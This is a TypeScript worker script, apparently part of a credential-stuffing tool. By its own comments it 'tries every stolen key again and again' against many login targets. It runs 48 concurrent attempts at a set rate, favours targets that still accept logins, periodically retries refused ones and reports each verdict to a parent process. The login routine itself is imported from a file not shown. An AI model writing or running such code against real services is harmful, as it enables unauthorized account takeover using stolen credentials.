import { setTimeout as wait } from 'node:timers/promises'
import { attempt, type Door, type Verdict } from './attempt.ts'

/** What the parent sends, once. */
export interface Loot {
  readonly doors: readonly Door[]
  /** Logins that are begun in a second. */
  readonly perSecond: number
}

/** What it is told of each login. */
export interface Attempt {
  readonly name: string
  readonly verdict: Verdict
  /** When it was over, in milliseconds since 1970. */
  readonly at: number
}

/** Logins in flight at once: those that wait for a silent host hold up nobody. */
const lanes = 48
/** One of so many attempts is on a place that has refused: it might open again. */
const recheckEvery = 5
/** A place that gave no answer is left alone for so long, in milliseconds. */
const sulk = 3000

/** Tries every stolen key again and again: those places first that still open. */
async function raid ({ doors, perSecond }: Loot): Promise<never> {
  const open = [...doors]
  const refused: Door[] = []
  const silentUntil = new Map<Door, number>()
  let inFlight = 0
  for (let count = 0; ; count += 1) {
    await wait(1000 / perSecond)
    if (inFlight >= lanes) continue
    const rechecks = open.length === 0 || (count % recheckEvery === 0 && refused.length > 0)
    const door = rechecks ? refused.shift() : next(open)
    if (door === undefined) continue
    inFlight += 1
    attempt(door).then((verdict) => {
      inFlight -= 1
      if (verdict === 'no-answer') silentUntil.set(door, performance.now() + sulk)
      // One that had refused and is silent now has still refused.
      if (verdict === 'refused' || (verdict === 'no-answer' && rechecks)) refused.push(door)
      else open.push(door)
      process.send?.({ name: door.name, verdict, at: Date.now() } satisfies Attempt)
    }, () => { process.exit(1) })
  }

  function next (queue: Door[]): Door | undefined {
    const index = queue.findIndex((door) => (silentUntil.get(door) ?? 0) < performance.now())
    return index < 0 ? undefined : queue.splice(index, 1)[0]
  }
}

process.once('message', (loot: Loot) => {
  raid(loot).catch(() => { process.exit(1) })
})
// Without its parent there is nobody to tell.
process.on('disconnect', () => process.exit())
